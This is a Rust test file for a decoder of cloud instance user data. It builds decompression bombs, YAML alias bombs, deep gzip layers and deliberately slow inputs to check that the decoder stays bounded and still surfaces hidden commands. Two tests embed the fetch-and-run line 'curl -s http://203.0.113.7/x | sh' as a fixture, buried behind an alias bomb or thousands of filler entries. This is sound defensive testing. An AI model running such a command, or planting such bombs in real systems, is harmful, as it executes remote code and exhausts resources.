//! Bombs: what grows when decoded, and what costs time.

use std::time::Duration;

use super::super::{DEEPEST, Decoded, MAX_DEPTH, MAX_LAYER, MAX_PARTS, MAX_TOTAL, MOST_PARTS, decode};
use super::{base64, gzip, runs, undecodable};
use crate::user_data::{Content, Odd, Piece};

/// CPU time of this thread so far: a busy machine makes no test fail.
fn cpu() -> Duration {
    let spent = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    Duration::from_nanos(spent.split(' ').next().unwrap().parse().unwrap())
}

/// 50 ms, and ten times that for a debug build.
fn limit() -> Duration {
    Duration::from_millis(if cfg!(debug_assertions) { 500 } else { 50 })
}

/// Bytes of text handed on.
fn text(pieces: &[Piece]) -> usize {
    let length = |piece: &Piece| match &piece.content {
        Content::Script { text, .. } => text.len(),
        Content::File { target, text } => target.len() + text.len(),
        Content::Setting { key, value } => key.len() + value.len(),
        Content::Include { url } => url.len(),
        Content::Undecodable { reason, .. } => reason.len(),
        Content::Odd { text, .. } => text.len(),
    };
    pieces.iter().map(length).sum()
}

#[test]
fn a_decompression_bomb_stops_at_a_mebibyte() {
    let mut script = b"#!/bin/sh\nfirst\n".to_vec();
    script.resize(64 << 20, b'\n');
    let bomb = gzip(&script);
    let started = cpu();
    let decoded = decode(&bomb);
    let took = cpu() - started;
    // 20 MiB are inflated, to read the end of what an instance can be launched with.
    assert!(took < 4 * limit(), "{took:?}");
    assert_eq!(undecodable(&decoded), ["gzip: inflates to more than 1 MiB"]);
    assert!(runs(&decoded, "first") && text(&decoded.pieces) <= MAX_LAYER + 100);
}

#[test]
fn many_bombs_stop_at_four_mebibytes() {
    let bomb = base64(gzip(&vec![b'x'; MAX_LAYER]));
    let entry = format!("- {{path: /x, encoding: gz+b64, content: {bomb}}}\n");
    let decoded = decode(format!("#cloud-config\nwrite_files:\n{}", entry.repeat(12)).as_bytes());
    assert!(
        undecodable(&decoded).iter().any(|reason| reason == "over 4 MiB in all"),
        "{:?}",
        undecodable(&decoded)
    );
    assert!(text(&decoded.pieces) < MAX_TOTAL + MAX_LAYER);
}

/// What is said of user data that was made to pass a bound.
fn over_bound(decoded: &Decoded) -> Vec<String> {
    let told = |piece: &Piece| match &piece.content {
        Content::Odd { what: Odd::OverBound, text } => Some(text.clone()),
        _ => None,
    };
    decoded.pieces.iter().filter_map(told).collect()
}

#[test]
fn layers_beyond_the_fifth_are_read_and_told() {
    let mut bytes = b"#!/bin/sh\nid\n".to_vec();
    for depth in 0..=DEEPEST + 1 {
        let decoded = decode(&bytes);
        assert_eq!(runs(&decoded, "id"), depth <= DEEPEST, "{depth}");
        assert_eq!(undecodable(&decoded).is_empty(), depth <= DEEPEST, "{depth}");
        assert_eq!(over_bound(&decoded).len(), usize::from(depth > MAX_DEPTH), "{depth}");
        bytes = gzip(&bytes);
    }
}

fn message(parts: &str) -> String {
    format!("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n{parts}")
}

#[test]
fn parts_beyond_the_bound_are_read_and_told() {
    let part = "--b\n\n#!/bin/sh\ntrue\n";
    for parts in [MAX_PARTS, MAX_PARTS + 1, 3 * MOST_PARTS] {
        let text = message(&format!("{}--b\n\n#!/bin/sh\nid\n", part.repeat(parts - 1)));
        let decoded = decode(text.as_bytes());
        assert!(runs(&decoded, "id"), "{parts}");
        assert_eq!(over_bound(&decoded).len(), usize::from(parts > MAX_PARTS), "{parts}");
    }
}

#[test]
fn the_end_behind_a_mebibyte_of_padding_is_read() {
    for (first, last) in [("#!/bin/sh\n", "\nid\n"), ("#cloud-config\n", "\nruncmd: [id]\n")] {
        let padded = format!("{first}{}{last}", "#\n".repeat(4 << 20));
        let decoded = decode(&gzip(padded.as_bytes()));
        assert!(runs(&decoded, "id"), "{first}");
        assert_eq!(over_bound(&decoded), ["gzip: inflates to more than 1 MiB"]);
    }
}

/// Long, but nothing that an instance could be launched with, or within the bounds.
#[test]
fn what_is_only_large_was_not_made_to_pass_a_bound() {
    let long: String = (0..60_000).map(|n| format!("echo step number {n}\n")).collect();
    let config: String = (0..900).map(|n| format!("- package-{n}\n")).collect();
    for honest in [
        format!("#!/bin/sh\n{long}"),
        format!("#!/bin/sh\n{}", long.get(..900_000).unwrap()),
        format!("#cloud-config\npackages:\n{config}"),
        message(&"--b\n\n#!/bin/sh\ntrue\n".repeat(40)),
    ] {
        assert!(over_bound(&decode(honest.as_bytes())).is_empty());
        assert!(over_bound(&decode(&gzip(honest.as_bytes()))).is_empty());
    }
}

#[test]
fn an_alias_bomb_is_bounded_and_hides_nothing() {
    let mut bomb = "#cloud-config\na0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..12 {
        let aliases = vec![format!("*a{}", level - 1); 9].join(", ");
        bomb.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
    }
    bomb.push_str("runcmd:\n  - *a11\n  - curl -s http://203.0.113.7/x | sh\n");
    let started = cpu();
    let decoded = decode(bomb.as_bytes());
    let took = cpu() - started;
    assert!(took < limit(), "{took:?}");
    assert!(undecodable(&decoded).iter().any(|reason| reason == "YAML: expands beyond the bounds"));
    assert!(runs(&decoded, "curl -s http://203.0.113.7/x | sh"));
    assert!(text(&decoded.pieces) < MAX_TOTAL);
}

#[test]
fn an_alias_to_itself_ends() {
    let decoded = decode(b"#cloud-config\nx: &x {y: *x, z: [*x]}\nruncmd: [id]\n");
    assert!(runs(&decoded, "id"));
}

#[test]
fn a_command_behind_thousands_is_still_read() {
    let filler = "  - 'true'\n".repeat(60_000);
    let config = format!("#cloud-config\nruncmd:\n{filler}  - curl -s http://203.0.113.7/x | sh\n");
    let decoded = decode(&gzip(config.as_bytes()));
    assert!(runs(&decoded, "curl -s http://203.0.113.7/x | sh"));
    assert!(decoded.pieces.len() < 3000);
}

/// Inputs built to be slow.
#[test]
fn nothing_of_16_kib_is_slow() {
    let size = 16 * 1024;
    let fill = |text: &str| text.repeat(size / text.len());
    let config = |text: &str| format!("#cloud-config\n{text}");
    let wide: String = (0..900).map(|n| format!("k{n}: 1, ")).collect();
    let inputs = [
        ("flow lists", config(&fill("["))),
        ("flow maps", config(&fill("{a: "))),
        ("block lists", config(&fill("- "))),
        ("complex keys", config(&fill("? "))),
        ("anchors", config(&fill("&a "))),
        ("tags", config(&fill("!!binary "))),
        ("errors", config(&fill("a: [\n"))),
        ("quoted", config(&fill("\"a\n"))),
        ("documents", config(&fill("---\n"))),
        ("directives", config(&fill("%A b\n"))),
        (
            "aliases of a wide map",
            config(&format!("x: &x {{{wide}}}\nwrite_files: [{}]\n", "*x, ".repeat(900))),
        ),
        (
            "aliases of a long list",
            config(&format!("x: &x [{}]\nruncmd: [{}]\n", "~, ".repeat(2500), "*x, ".repeat(1900))),
        ),
        ("merge keys", config(&format!("x: &x {{<<: *x}}\n{}", "<<: *x\n".repeat(2000)))),
        ("template openers", format!("## template: jinja\n{}", fill("{{"))),
        (
            "template sets",
            format!("## template: jinja\n{{% set a = '{}' %}}{}", "x".repeat(8000), "{{a}}".repeat(1500)),
        ),
        ("windows tags", fill("<powershell>")),
        ("windows closers", format!("<powershell>{}", fill("</"))),
        (
            "boundaries",
            format!("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n{}", fill("--b\n")),
        ),
        ("headers", fill("a: b\n") + "Content-Type: x\n"),
        ("folded headers", format!("Content-Type: multipart/mixed;\n{}", fill(" a=b;\n"))),
        ("encoded headers", format!("MIME-Version: 1.0\nContent-Type: {}", fill("=?utf-8?q?=20?= "))),
        ("gzip members", String::new()),
        ("tables", format!("[settings]\na = \"\n{}", fill("[a]\n"))),
        ("json", fill("[{\"a\":")),
        ("ignition", format!("{{\"ignition\":{}", fill("[{\"a\":"))),
        ("spaces", fill(" ")),
        ("letters", fill("A")),
    ];
    let members = gzip(b"").repeat(size / gzip(b"").len());
    for (what, input) in inputs {
        let bytes = if what == "gzip members" { &members } else { input.as_bytes() };
        let started = cpu();
        let decoded = decode(bytes);
        let took = cpu() - started;
        assert!(took < limit(), "{what}: {took:?}");
        assert!(text(&decoded.pieces) <= 2 * MAX_TOTAL, "{what}");
    }
}

/// What an input of four times the length costs, next to a shorter one: four times as much, or a little
/// more. Every reader, with the fragments that its grammar is made of.
#[test]
fn four_times_the_input_costs_about_four_times() {
    let bodies: &[(&str, &[&str])] = &[
        (
            "#cloud-config\n",
            &[
                "[",
                "{a: ",
                "- ",
                "? ",
                "&a ",
                "*a ",
                "!!binary ",
                "a: [\n",
                "\"a\n",
                "---\n",
                "a: |\n x\n",
                "<<: *a\n",
                "a:\n",
            ],
        ),
        (
            "#cloud-config\nwrite_files:\n",
            &[
                "- {path: a, content: b}\n",
                "- {path: /a, append: true, content: b}\n",
                "- {encoding: gz+b64, content: H4sI}\n",
            ],
        ),
        ("#cloud-config-archive\n", &["- a\n", "- {content: a}\n"]),
        ("#cloud-config-jsonp\n[", &["{\"op\":\"add\",\"path\":\"/a/b\",\"value\":1},", "["]),
        ("#include\n", &["http://a/\n", "\u{85}", "#include "]),
        (
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n",
            &["--b\n", "--b\n\nx\n", "--b\r", "--b\nContent-Type: multipart/mixed; boundary=b\n\n"],
        ),
        (
            "MIME-Version: 1.0\nContent-Type: multipart/mixed;\n",
            &[" a=b;\n", " boundary*1=a;\n", "Content-Type: x\n", " \r"],
        ),
        (
            "[settings]\n",
            &[
                "[settings.a]\n",
                "[[settings.a]]\n",
                "a.b.c = 1\n",
                "a = {b = ",
                "x = \"\"\"\n",
                "a = [",
                ".a",
            ],
        ),
        ("[settings", &[".a", ". ", ".\"a\""]),
        ("{\"ignition\":", &["[", "{\"a\":", "\"a\",", "[{\"a\":"]),
        (
            "## template: jinja\n",
            &["{{", "{% for a in 'ab' %}", "{{ 'a' ~ ", "{{ \" }}", "{#", "{{ a|join }}"],
        ),
        ("<powershell>", &["<powershell>", "</", "<script>", "\r"]),
        ("version: 1.0\ntasks:\n", &["- task: executeScript\n", "- {inputs: [{content: a}]}\n"]),
        ("", &["A", " ", "\n", "QUFB\n", "a=b\n", "\u{feff}", "{", "<"]),
    ];
    let took = |start: &str, fragment: &str, size: usize| {
        let input = format!("{start}{}", fragment.repeat(size / fragment.len()));
        let best = (0..3).map(|_| {
            let started = cpu();
            let decoded = decode(input.as_bytes());
            let took = cpu() - started;
            assert!(text(&decoded.pieces) <= 2 * MAX_TOTAL, "{start}{fragment}");
            took
        });
        best.min().unwrap()
    };
    const SIZE: usize = 12 << 10;
    for (start, fragments) in bodies {
        for fragment in *fragments {
            let (short, long) = (took(start, fragment, SIZE), took(start, fragment, 4 * SIZE));
            let limit = short * 9 + Duration::from_millis(if cfg!(debug_assertions) { 40 } else { 4 });
            assert!(long < limit, "{start:?} {fragment:?}: {short:?}, then {long:?}");
        }
    }
}
